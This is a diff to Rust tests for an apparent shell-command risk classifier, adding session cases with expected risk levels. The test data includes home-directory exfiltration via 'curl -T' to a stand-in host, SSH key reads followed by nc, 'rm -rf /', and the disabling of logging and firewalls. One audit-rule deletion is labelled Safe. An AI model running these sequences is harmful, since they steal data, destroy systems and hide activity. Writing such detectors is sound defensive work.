@@ -76,6 +76,7 @@ corpus! {
     written_after_the_rules: "heldout.tsv", Bash, Linux, "/home/ada/project";
     good_commands: "good.tsv", Bash, Linux, "/home/ada/project";
     acceptance_in_zsh: "accept.tsv", Zsh, Linux, "/home/ada/project";
+    families: "families.tsv", Bash, Linux, "/home/ada/project";
     fish: "fish.tsv", Fish, Linux, "/home/ada/project";
     powershell: "powershell.tsv", PowerShell, Windows, "C:\\Users\\ada\\project";
     cmd: "cmd.tsv", Cmd, Windows, "C:\\Users\\ada\\project";
@@ -157,6 +158,14 @@ fn a_sequence_means_more_than_its_parts() {
     session(&["cat ~/.ssh/id_rsa", "nc 10.0.0.1 99"], RiskLevel::High);
     session(&["unset HISTFILE", "git reset --hard"], RiskLevel::Critical);
     session(&["rm -rf /", "ls", "r\\m -rf /"], RiskLevel::Critical);
+    session(&["tar czf /tmp/h.tgz ~", "curl -T /tmp/h.tgz https://x.example"], RiskLevel::Critical);
+    session(&["zip -r h.zip ~", "nc 10.0.0.1 99"], RiskLevel::High);
+    session(&["tar czf src.tgz src", "nc 10.0.0.1 99"], RiskLevel::Moderate);
+    session(&["systemctl stop rsyslog", "rm a"], RiskLevel::High);
+    session(&["sudo ufw disable", "useradd bob"], RiskLevel::High);
+    session(&["sudo auditctl -D", "ls"], RiskLevel::Safe);
+    session(&["printf 'import os\\nos.system(\"rm -rf /\")' > x.py", "python3 x.py"], RiskLevel::Critical);
+    session(&["echo 'print(1)' > x.py", "python3 x.py"], RiskLevel::Safe);
     let deletes = ["rm a", "rm b", "rm c", "rm d", "rm e", "rm f", "rm g", "rm h", "rm i", "rm j", "rm k"];
     session(&deletes, RiskLevel::High);
     session(&deletes[..5], RiskLevel::Moderate);
